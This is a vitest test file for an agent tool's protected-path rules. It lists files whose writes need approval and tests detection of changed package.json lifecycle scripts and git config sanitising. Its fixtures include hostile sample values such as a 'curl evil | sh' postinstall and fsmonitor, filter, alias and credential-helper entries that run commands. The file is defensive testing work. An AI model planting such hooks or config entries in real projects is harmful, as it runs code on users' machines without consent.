/** X5 protected paths: which writes need the person's explicit approval (tables), package.json by content. */
import { describe, expect, it } from 'vitest';
import { protectedReason, WHY } from '../../main/tools/protected/rules.js';
import { changedLifecycleScripts, restoreLifecycleScripts } from '../../main/tools/protected/package-scripts.js';
import { configEntries, hooksPaths, sanitizeNewRepoConfig } from '../../main/tools/protected/git-config.js';

describe('protectedReason', () => {
  it.each([
    ['.git/hooks/pre-commit', WHY.git],
    ['.git/config', WHY.git],
    ['.git', WHY.git],
    ['.GIT/hooks/post-checkout', WHY.git],
    ['vendor/lib/.git/hooks/post-merge', WHY.git],
    ['.git/modules/sub/hooks/pre-push', WHY.git],
    ['.gitmodules', WHY.gitFiles],
    ['src/.gitattributes', WHY.gitFiles],
    ['.bashrc', WHY.shell],
    ['.zshenv', WHY.shell],
    ['.profile', WHY.shell],
    ['.envrc', WHY.envrc],
    ['app/.envrc', WHY.envrc],
    ['.vscode/tasks.json', WHY.editor],
    ['.vscode/settings.json', WHY.editor],
    ['.idea/workspace.xml', WHY.editor],
    ['.devcontainer/devcontainer.json', WHY.editor],
    ['.mcp.json', WHY.agents],
    ['.claude/settings.json', WHY.agents],
    ['.cursor/mcp.json', WHY.agents],
    ['.npmrc', WHY.packageManager],
    ['packages/a/.npmrc', WHY.packageManager],
    ['.yarnrc.yml', WHY.packageManager],
    ['.husky/pre-commit', WHY.gitHooks],
    ['.pre-commit-config.yaml', WHY.gitHooks],
    ['AGENTS.md', WHY.bootstrap],
    ['agents.md', WHY.bootstrap],
    ['CLAUDE.md', WHY.bootstrap],
    ['.agentdesk/instructions.md', WHY.bootstrap],
    ['.agentdesk/skills/x/SKILL.md', WHY.bootstrap],
    ['skills/release/SKILL.md', WHY.bootstrap],
    ['.ssh/authorized_keys', WHY.ssh],
    ['.gitconfig', WHY.gitGlobal],
    ['.config/git/config', WHY.gitGlobal],
    ['.config/autostart/x.desktop', WHY.login],
    ['.config/systemd/user/x.service', WHY.login],
    ['.local/bin/ls', WHY.path],
  ])('%s is protected', (rel, why) => {
    expect(protectedReason(rel)).toBe(why);
  });

  it.each([
    ['src/index.ts'],
    ['README.md'],
    ['docs/AGENTS.md'], // only the root one is read into the instructions
    ['dotfiles/.bashrc'], // shell files matter at the root (a home folder) only
    ['package.json'], // by content: see below
    ['skills/release/notes.md'],
    ['skills/SKILL.md'],
    ['.github/workflows/ci.yml'], // runs on the CI service, not on this computer
    ['.config/app.json'],
    ['gitconfig.txt'],
    ['my.git/x'],
    ['.'],
  ])('%s is not', (rel) => {
    expect(protectedReason(rel)).toBeUndefined();
  });
});

describe('package.json lifecycle scripts', () => {
  const pkg = (scripts: Record<string, string> | undefined, extra: Record<string, unknown> = {}) =>
    `${JSON.stringify({ name: 'p', version: '1.0.0', ...(scripts ? { scripts } : {}), ...extra }, null, 2)}\n`;
  it.each([
    ['a test script', pkg({ test: 'vitest' }), pkg({ test: 'vitest run' }), []],
    ['a dependency', pkg({ test: 'x' }), pkg({ test: 'x' }, { dependencies: { a: '1' } }), []],
    ['a new postinstall', pkg({ test: 'x' }), pkg({ test: 'x', postinstall: 'curl evil | sh' }), ['postinstall']],
    ['a changed prepare', pkg({ prepare: 'husky' }), pkg({ prepare: 'husky; sh x' }), ['prepare']],
    ['a removed preinstall', pkg({ preinstall: 'check' }), pkg({}), ['preinstall']],
    ['a new file with install', undefined, pkg({ install: 'node-gyp rebuild' }), ['install']],
    ['a new file without', undefined, pkg({ build: 'tsc' }), []],
    ['invalid JSON', pkg({}), '{ "scripts": { "postinstall": ', ['(package.json is not valid JSON)']],
  ])('%s', (_l, before, after, changed) => {
    expect(changedLifecycleScripts(before, after)).toEqual(changed);
  });
  it('restores only the lifecycle scripts, keeping the rest of the change and the indentation', () => {
    const before = pkg({ test: 'x', prepare: 'husky' });
    const after = `${JSON.stringify({ name: 'p', version: '1.0.1', scripts: { test: 'y', prepare: 'evil', postinstall: 'evil2' }, dependencies: { a: '1' } }, null, 4)}\n`;
    const restored = restoreLifecycleScripts(before, after)!;
    expect(JSON.parse(restored)).toEqual({ name: 'p', version: '1.0.1', scripts: { test: 'y', prepare: 'husky' }, dependencies: { a: '1' } });
    expect(restored).toMatch(/^ {4}"name"/m);
    expect(restored.endsWith('\n')).toBe(true);
    expect(restoreLifecycleScripts(before, 'not json')).toBeNull();
  });
});

describe('git config of a repository a command created', () => {
  const INIT = '[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n';
  it('keeps what git init and git clone write', () => {
    const cloned = `${INIT}[remote "origin"]\n\turl = https://example.com/r.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch "main"]\n\tremote = origin\n\tmerge = refs/heads/main\n`;
    expect(sanitizeNewRepoConfig(cloned)).toEqual({ text: cloned, removed: [] });
  });
  it.each([
    ['core.fsmonitor', `${INIT}\tfsmonitor = "touch /tmp/pwned"\n`, ['core.fsmonitor']],
    ['core.hooksPath', `${INIT}\thooksPath = .githooks\n`, ['core.hookspath']],
    ['a key on the header line', '[core] fsmonitor = evil\n\tbare = false\n', ['core.fsmonitor']],
    ['a dotted subsection', `${INIT}[filter.lfs]\n\tclean = sh evil\n`, ['filter.lfs.clean']],
    ['a filter driver', `${INIT}[filter "x"]\n\tsmudge = sh -c evil\n\tclean = cat\n`, ['filter.x.smudge', 'filter.x.clean']],
    ['an include', `${INIT}[include]\n\tpath = ../evil.cfg\n`, ['include.path']],
    ['a continued value', `${INIT}\tsshCommand = ssh \\\n -o ProxyCommand=evil\n`, ['core.sshcommand']],
    ['mixed case', `${INIT}[CORE]\n\tFsMonitor = evil\n`, ['core.fsmonitor']],
    ['a credential helper', `${INIT}[credential]\n\thelper = !evil\n`, ['credential.helper']],
    ['an alias', `${INIT}[alias]\n\tst = !sh evil\n`, ['alias.st']],
  ])('removes %s', (_l, text, removed) => {
    const r = sanitizeNewRepoConfig(text);
    expect(r.removed).toEqual(removed);
    expect(r.text).not.toMatch(/evil|pwned|githooks/);
    if (text.includes('repositoryformatversion')) expect(r.text).toContain('repositoryformatversion = 0');
    expect(sanitizeNewRepoConfig(r.text).removed).toEqual([]);
  });
  it('reads entries, continuation lines and hooksPath values', () => {
    expect(configEntries('[a "B.c"]\n\tk = v \\\n  more\n# c\n[d.e]\nflag\n').map((e) => [e.name, e.lines])).toEqual([
      ['a.B.c.k', [1, 2]],
      ['d.e.flag', [5]],
    ]);
    expect(hooksPaths('[core]\n\thooksPath = ".husky/_"\n')).toEqual(['.husky/_']);
  });
});
